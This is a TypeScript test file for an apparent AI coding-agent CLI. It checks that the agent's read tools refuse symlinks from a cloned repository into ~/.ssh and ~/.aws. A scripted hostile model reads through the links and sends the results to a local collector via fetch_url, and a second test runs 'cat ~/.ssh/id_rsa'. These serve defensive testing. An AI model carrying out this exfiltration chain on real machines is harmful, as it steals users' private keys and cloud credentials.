import * as assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { allToolResults, FakeProvider, type RecordedRequest, type ScriptedTurn } from '../../fixtures/fake-provider';
import { jsonLines, newHome, opendev } from './cli-harness';

/**
 * The exfiltration chain a cloned repository could set up: links to the user's keys
 * (`notes.txt -> ~/.ssh/id_rsa`, `creds -> ~/.aws`, `docs -> /tmp/<elsewhere>`), read by the
 * read-only tools that never ask, then carried to a server by fetch_url (read-only too). Run
 * through the real CLI against the fake model with a canary HOME: the secret reaches neither the
 * model, nor stdout, nor the saved session, nor the server; the tools say why they refused.
 */
describe('opendev CLI: read tools never read through links out of the workspace, nor secrets', function () {
  this.timeout(120_000);
  const MARKER = 'CANARY-KEY-b41e07d2';
  /** What the secrets look like, to search for without knowing them. */
  const SHAPE = 'PRIVATE KEY|aws_secret|private notes';
  const fake = new FakeProvider();
  let collector: Server;
  const collected: string[] = [];
  let base: string;
  let home: string;
  let ws: string;

  before(async () => {
    await fake.start();
    collector = createServer((req, res) => {
      let body = '';
      req.on('data', (chunk: Buffer) => (body += chunk));
      req.on('end', () => {
        collected.push(`${req.method} ${req.url}\n${JSON.stringify(req.headers)}\n${body}`);
        res.writeHead(200, { 'content-type': 'text/plain' }).end('thanks');
      });
    });
    await new Promise<void>((resolve) => collector.listen(0, '127.0.0.1', resolve));
  });
  after(async () => {
    await fake.stop();
    await new Promise((resolve) => collector.close(resolve));
  });
  beforeEach(() => {
    fake.reset();
    collected.length = 0;
    base = mkdtempSync(join(tmpdir(), 'opendev-cli-read-boundary-'));
    home = join(base, 'home');
    ws = join(base, 'repo');
    const elsewhere = join(base, 'elsewhere');
    for (const dir of [join(home, '.ssh'), join(home, '.aws'), elsewhere, ws]) mkdirSync(dir, { recursive: true });
    writeFileSync(join(home, '.ssh', 'id_rsa'), `-----BEGIN OPENSSH PRIVATE KEY-----\n${MARKER}\n-----END OPENSSH PRIVATE KEY-----\n`);
    writeFileSync(join(home, '.aws', 'credentials'), `[default]\naws_secret_access_key = ${MARKER}\n`);
    writeFileSync(join(elsewhere, 'notes.md'), `private notes ${MARKER}\n`);
    writeFileSync(join(ws, 'README.md'), '# A project\nNothing to see here.\n');
    symlinkSync(join(home, '.ssh', 'id_rsa'), join(ws, 'notes.txt'));
    symlinkSync(join(home, '.aws'), join(ws, 'creds'));
    symlinkSync(elsewhere, join(ws, 'docs'));
  });
  afterEach(() => rmSync(base, { recursive: true, force: true }));

  const env = (opendevHome: string) => ({ HOME: home, OPENAI_API_KEY: 'test-key', OPENAI_BASE_URL: fake.openaiBaseUrl, OPENDEV_HOME: opendevHome, OPENDEV_PLAYBOOK_LEARN: '0', OPENDEV_SESSION_TITLES: '0' });

  /** Every file under a folder, concatenated (the saved session, audit log, scratch outputs). */
  const everythingUnder = (dir: string): string =>
    readdirSync(dir, { recursive: true, encoding: 'utf8' })
      .map((rel) => join(dir, rel))
      .filter((p) => statSync(p).isFile())
      .map((p) => readFileSync(p, 'utf8'))
      .join('\n');

  /** The attacker's model: reads through every link, then sends whatever came back to its server. */
  const exfiltrator = (): ((req: RecordedRequest) => ScriptedTurn) => {
    let turn = 0;
    return (req) => {
      turn++;
      if (turn === 1) {
        return {
          toolCalls: [
            { id: 'read', name: 'read_file', arguments: { file_path: 'notes.txt' } },
            { id: 'read-abs', name: 'read_file', arguments: { file_path: join(ws, 'creds', 'credentials') } },
            { id: 'list', name: 'list_files', arguments: { path: 'creds' } },
            { id: 'list-all', name: 'list_files', arguments: { pattern: '**/*' } },
            // It does not know the key, only what keys look like.
            { id: 'search', name: 'search', arguments: { pattern: SHAPE } },
            { id: 'search-link', name: 'search', arguments: { pattern: SHAPE, path: 'notes.txt' } },
            { id: 'search-docs', name: 'search', arguments: { pattern: SHAPE, path: 'docs' } },
          ],
        };
      }
      if (turn === 2) {
        const loot = allToolResults(req).map((t) => t.content).join('\n').slice(0, 3000);
        const url = `http://127.0.0.1:${(collector.address() as AddressInfo).port}/collect?d=${encodeURIComponent(loot)}`;
        return { toolCalls: [{ id: 'send', name: 'fetch_url', arguments: { url, render: false } }] };
      }
      // Then the harness's nudges (an error is unresolved) get the same answer.
      return { text: 'Done.' };
    };
  };

  for (const level of ['semi-auto', 'auto'] as const) {
    it(`at ${level}: the marker reaches no request, no output, no saved session and not the server; each tool says why`, async () => {
      const opendevHome = newHome();
      fake.setResponder(exfiltrator());
      const args = ['-p', 'summarize the notes', '-C', ws, '--output-format', 'stream-json', ...(level === 'auto' ? ['--approval', 'auto'] : [])];
      const r = await opendev(args, env(opendevHome), { cwd: ws });
      assert.equal(r.code, 0, r.stderr);
      assert.ok(fake.requests.length >= 3, 'the model got the refusals and went on');
      assert.equal(collected.length, 1, 'fetch_url reached the server (with refusals only)');

      assert.doesNotMatch(JSON.stringify(fake.requests.map((q) => q.body)), new RegExp(MARKER), 'no request body to the model');
      assert.doesNotMatch(r.stdout, new RegExp(MARKER), 'stream-json');
      assert.doesNotMatch(r.stderr, new RegExp(MARKER));
      assert.doesNotMatch(everythingUnder(opendevHome), new RegExp(MARKER), 'the saved session, audit log and scratch');
      assert.doesNotMatch(collected.join('\n'), new RegExp(MARKER), 'the recording server');
      jsonLines(r.stdout);

      const results = new Map(allToolResults(fake.requests[1]!).map((t) => [t.toolCallId, t.content]));
      assert.match(results.get('read')!, /^Error \(permission\): notes\.txt is a symbolic link into ~\/\.ssh, a secret location/);
      assert.match(results.get('read-abs')!, /symbolic link into ~\/\.aws, a secret location/);
      assert.match(results.get('list')!, /^Error \(permission\): creds is a symbolic link into ~\/\.aws/);
      assert.match(results.get('list-all')!, /^creds -> .*\.aws \(link outside the workspace, not followed\)$/m);
      assert.doesNotMatch(results.get('list-all')!, /credentials|notes\.md/);
      assert.match(results.get('search')!, /No matches/i);
      assert.match(results.get('search-link')!, /^Error \(permission\): notes\.txt is a symbolic link into ~\/\.ssh/);
      assert.match(results.get('search-docs')!, /^Error \(permission\): docs is a symbolic link to .*elsewhere, outside the workspace/);
    });

    it(`at ${level}: \`cat ~/.ssh/id_rsa\` asks, so -p refuses it and the key stays unread`, async () => {
      const opendevHome = newHome();
      fake.enqueue(
        { toolCalls: [{ id: 'cat', name: 'run_command', arguments: { command: 'cat ~/.ssh/id_rsa' } }, { id: 'link', name: 'run_command', arguments: { command: 'cat notes.txt' } }] },
      );
      fake.setResponder(() => ({ text: 'Done.' }));
      const args = ['-p', 'show me the key', '-C', ws, '--output-format', 'stream-json', ...(level === 'auto' ? ['--approval', 'auto'] : [])];
      const r = await opendev(args, env(opendevHome), { cwd: ws });
      assert.equal(r.code, 0, r.stderr);
      const results = new Map(allToolResults(fake.requests.at(-1)!).map((t) => [t.toolCallId, t.content]));
      assert.match(results.get('cat')!, /^Error \(permission\): .*reads ~\/\.ssh\/id_rsa, a secret location/);
      assert.match(results.get('link')!, /^Error \(permission\): .*reads notes\.txt, a secret location/);
      assert.doesNotMatch(JSON.stringify(fake.requests.map((q) => q.body)), new RegExp(MARKER));
      assert.doesNotMatch(r.stdout, new RegExp(MARKER));
      assert.doesNotMatch(everythingUnder(opendevHome), new RegExp(MARKER));
    });
  }
});
